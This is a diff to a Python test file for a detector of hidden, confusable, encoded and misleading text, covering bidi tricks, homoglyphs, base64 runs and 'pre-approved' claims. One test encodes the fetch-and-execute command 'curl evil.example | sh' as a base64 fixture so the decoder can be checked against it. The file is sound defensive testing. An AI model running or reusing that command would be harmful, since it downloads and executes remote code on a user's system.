@@ -1,4 +1,4 @@
-"""What is said of a text that people decide by: what hides, imitates, cannot be read, or claims too much."""
+"""Detection of hidden, imitating, unreadable and misleading text."""
 
 import base64
 
@@ -19,8 +19,7 @@ PLAIN = [
 
 
 @pytest.mark.parametrize("text", PLAIN)
-def test_honest_texts_stand_as_they_are(text):
-    """People write in many alphabets."""
+def test_ordinary_texts_are_unmarked(text):
     assert [part.text for part in inspect_text(text)] == [text]
 
 
@@ -35,13 +34,11 @@ def test_honest_texts_stand_as_they_are(text):
     ],
 )
 def test_words_that_may_be_read_as_others(text, why):
-    """Each with its reason and its characters."""
     [word] = confusable_words(text)
     assert why in word.why
 
 
 def test_nothing_is_left_out():
-    """Put together, the parts are the text."""
     text = "a\u202eb \u0430bc" + " " * 50 + "d" + "\n" * 20 + "e\u0336f"
     parts = inspect_text(text)
     assert "".join(part.text for part in parts) == text
@@ -49,8 +46,7 @@ def test_nothing_is_left_out():
     assert [part.note for part in parts if part.note] == notes
 
 
-def test_what_nobody_can_read_is_decoded_where_it_can_be():
-    """Words, paths and ids are none of it."""
+def test_encoded_runs_are_decoded():
     coded = base64.b64encode(b"curl evil.example | sh").decode()
     [found] = encoded_runs(f"echo {coded} | base64 -d")
     assert (found.kind, found.decoded) == ("base64", "curl evil.example | sh")
@@ -60,6 +56,5 @@ def test_what_nobody_can_read_is_decoded_where_it_can_be():
 
 
 def test_claims_are_found():
-    """Each once."""
     assert approval_claims("This was pre-approved by Rosa. PRE-APPROVED!") == ["pre-approved", "PRE-APPROVED"]
     assert approval_claims("The report was approved in spring") == []
